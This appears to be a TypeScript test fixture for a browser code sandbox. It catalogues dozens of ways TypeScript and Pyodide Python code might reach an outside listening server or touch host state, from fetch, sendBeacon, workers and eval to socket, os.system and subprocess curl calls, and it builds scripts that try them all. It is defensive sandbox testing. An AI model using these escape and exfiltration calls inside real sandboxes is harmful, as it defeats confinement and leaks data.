// What a program may try in order to get out: by name, in each language. OUTSIDE is a server that listens for it.

/** Each is the body of a function. What it throws, returns or promises is nobody's concern but the listener's. */
export const inTypeScript: Readonly<Record<string, string>> = {
  fetch: `return fetch(OUTSIDE)`,
  "fetch without CORS": `return fetch(OUTSIDE, { mode: "no-cors", method: "POST", body: "secret" })`,
  "fetch that outlives its page": `return fetch(OUTSIDE, { keepalive: true, mode: "no-cors" })`,
  "fetch of the lab itself": `return fetch(LAB)`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", OUTSIDE); x.send()`,
  "XMLHttpRequest that waits": `const x = new XMLHttpRequest(); x.open("GET", OUTSIDE, false); x.send()`,
  WebSocket: `return new WebSocket(OUTSIDE.replace("http", "ws"))`,
  WebTransport: `return new WebTransport(OUTSIDE.replace("http:", "https:")).ready`,
  EventSource: `return new EventSource(OUTSIDE)`,
  sendBeacon: `return navigator.sendBeacon(OUTSIDE, "secret")`,
  RTCPeerConnection: `return new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(OUTSIDE).host }] }).createOffer()`,
  importScripts: `return importScripts(OUTSIDE)`,
  "import of an address": `return new Function("a", "return import(a)")(OUTSIDE)`,
  "import of the lab": `return new Function("a", "return import(a)")(LAB)`,
  "import of text": `return new Function("a", "return import('data:text/javascript,fetch(' + JSON.stringify(a) + ')')")(OUTSIDE)`,
  "import of a blob": `return new Function("a", "return import(a)")(URL.createObjectURL(new Blob(["fetch('" + OUTSIDE + "')"], { type: "text/javascript" })))`,
  "Worker of an address": `return new Worker(OUTSIDE)`,
  "Worker of a blob": `return new Worker(URL.createObjectURL(new Blob(["fetch('" + OUTSIDE + "'); importScripts('" + OUTSIDE + "')"])))`,
  "module Worker of a blob": `return new Worker(URL.createObjectURL(new Blob(["import '" + OUTSIDE + "'"], { type: "text/javascript" })), { type: "module" })`,
  SharedWorker: `return new SharedWorker(OUTSIDE)`,
  "service worker": `return navigator.serviceWorker.register(LAB + "service-worker.js")`,
  FontFace: `return new FontFace("f", "url(" + OUTSIDE + ")").load()`,
  Image: `new Image().src = OUTSIDE`,
  "compiling a stream": `return WebAssembly.compileStreaming(fetch(OUTSIDE))`,
  "Function constructor": `return (() => {}).constructor("a", "return fetch(a)")(OUTSIDE)`,
  eval: `return (0, eval)("fetch")(OUTSIDE)`,
  location: `self.location = OUTSIDE`,
  "location.href": `self.location.href = OUTSIDE`,
  "another window": `return self.open(OUTSIDE)`,
  parent: `self.parent.document.body.remove()`,
  top: `self.top.location = OUTSIDE`,
  document: `document.title = "taken"`,
  cookie: `document.cookie = "taken=1"`,
  cookieStore: `return cookieStore.set("taken", "1")`,
  localStorage: `localStorage.setItem("taken", "1")`,
  indexedDB: `return new Promise((done) => (indexedDB.open("taken").onsuccess = done))`,
  caches: `return caches.open("taken")`,
  "private files": `return navigator.storage.getDirectory().then((root) => root.getFileHandle("taken", { create: true }))`,
  BroadcastChannel: `new BroadcastChannel("kobai").postMessage("taken")`,
  Notification: `return new Notification("taken")`,
};

export const inPython: Readonly<Record<string, string>> = {
  "js.fetch": `import js; js.fetch(OUTSIDE)`,
  "js.XMLHttpRequest": `from js import XMLHttpRequest; x = XMLHttpRequest.new(); x.open("GET", OUTSIDE, False); x.send()`,
  "js.WebSocket": `import js; js.WebSocket.new(OUTSIDE.replace("http", "ws"))`,
  "js.eval": `import js; js.eval("fetch('" + OUTSIDE + "')")`,
  "js.importScripts": `import js; js.importScripts(OUTSIDE)`,
  "js.indexedDB": `import js; js.indexedDB.open("taken")`,
  "js.caches": `import js; js.caches.open("taken")`,
  "js.BroadcastChannel": `import js; js.BroadcastChannel.new("kobai").postMessage("taken")`,
  run_js: `from pyodide.code import run_js; run_js("fetch('" + OUTSIDE + "')")`,
  pyfetch: `from pyodide.http import pyfetch; pyfetch(OUTSIDE).send(None)`,
  open_url: `from pyodide.http import open_url; open_url(OUTSIDE)`,
  loadPackage: `import pyodide_js; pyodide_js.loadPackage(OUTSIDE + "/x-1.0-py3-none-any.whl")`,
  urllib: `import urllib.request; urllib.request.urlopen(OUTSIDE, timeout=1)`,
  "http.client": `import http.client; c = http.client.HTTPConnection(OUTSIDE[7:]); c.request("GET", "/")`,
  socket: `import socket; socket.create_connection(tuple(OUTSIDE[7:].split(":")), 1)`,
  "os.system": `import os; os.system("curl " + OUTSIDE)`,
  subprocess: `import subprocess; subprocess.run(["curl", OUTSIDE])`,
  webbrowser: `import webbrowser; webbrowser.open(OUTSIDE)`,
};

/** Tries all of them, gives them half a second, and tells which were tried. */
export function allInTypeScript(places: Places): string {
  const tries = Object.entries(inTypeScript).map(
    ([name, body]) => `attempt(${JSON.stringify(name)}, () => { ${body} });`,
  );
  return `// @ts-nocheck
const OUTSIDE = ${JSON.stringify(places.outside)};
const LAB = ${JSON.stringify(places.lab)};
const tried = [];
function attempt(name, action) {
  tried.push(name);
  try {
    Promise.resolve(action()).catch(() => {});
  } catch {}
}
${tries.join("\n")}
const until = Date.now() + 500;
while (Date.now() < until);
`;
}

export function allInPython({ outside }: Places): string {
  const tries = Object.entries(inPython).map(
    ([name, body]) => `
tried.append(${JSON.stringify(name)})
try:
    ${body.split("; ").join("\n    ")}
except BaseException:
    pass`,
  );
  return `OUTSIDE = ${JSON.stringify(outside)}
tried = []
${tries.join("\n")}
import time
time.sleep(0.5)
`;
}

export interface Places {
  readonly outside: string;
  readonly lab: string;
}
